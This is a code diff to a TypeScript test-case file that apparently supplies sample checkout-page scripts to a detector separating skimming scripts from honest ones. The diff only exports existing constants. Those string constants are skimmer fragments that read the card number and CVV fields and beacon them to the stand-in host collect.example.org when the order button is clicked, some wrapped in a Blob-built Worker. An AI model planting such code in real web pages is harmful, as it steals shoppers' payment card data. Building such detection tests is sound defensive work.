@@ -3,18 +3,18 @@
 import type { HonestCase } from './honest-scripts.cases.ts'
 import type { ScriptCase } from './score-script.cases.ts'
 
-const NUMBER = `document.querySelector('#cc_number').value`
-const TYPED = `{n:${NUMBER},c:document.querySelector('#cc_cvv').value}`
-const SENDS = `const send=d=>navigator.sendBeacon('https://collect.example.org/c',JSON.stringify(d));`
-const atOrder = (statements: string): string =>
+export const NUMBER = `document.querySelector('#cc_number').value`
+export const TYPED = `{n:${NUMBER},c:document.querySelector('#cc_cvv').value}`
+export const SENDS = `const send=d=>navigator.sendBeacon('https://collect.example.org/c',JSON.stringify(d));`
+export const atOrder = (statements: string): string =>
   `document.querySelector('#place_order').addEventListener('click',function(){${statements}});`
 const inAsync = (statements: string): string =>
   `document.querySelector('#place_order').addEventListener('click',async function(){${statements}});`
-const worker = (code: string): string =>
+export const worker = (code: string): string =>
   `var w=new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}])));`
 
 /** What a script declares, and what it does when the order is placed. */
-type Way = readonly [name: string, declares: string, acts: string]
+export type Way = readonly [name: string, declares: string, acts: string]
 
 const THROWS = `async function f(){throw ${TYPED}}`
 const REJECTIONS: readonly Way[] = [
@@ -343,9 +343,9 @@ export const HIDDEN_PATH_CASES: readonly ScriptCase[] = [
   })),
 ]
 
-const LOGS = `const log=m=>navigator.sendBeacon('https://log.example.net/e',m);`
-const SHOWS = `document.querySelector('#message').textContent=`
-const PAYS = `fetch('/api/pay',{method:'POST',body:JSON.stringify(${TYPED})})`
+export const LOGS = `const log=m=>navigator.sendBeacon('https://log.example.net/e',m);`
+export const SHOWS = `document.querySelector('#message').textContent=`
+export const PAYS = `fetch('/api/pay',{method:'POST',body:JSON.stringify(${TYPED})})`
 
 export const HONEST_HIDDEN_PATHS: readonly HonestCase[] = [
   {
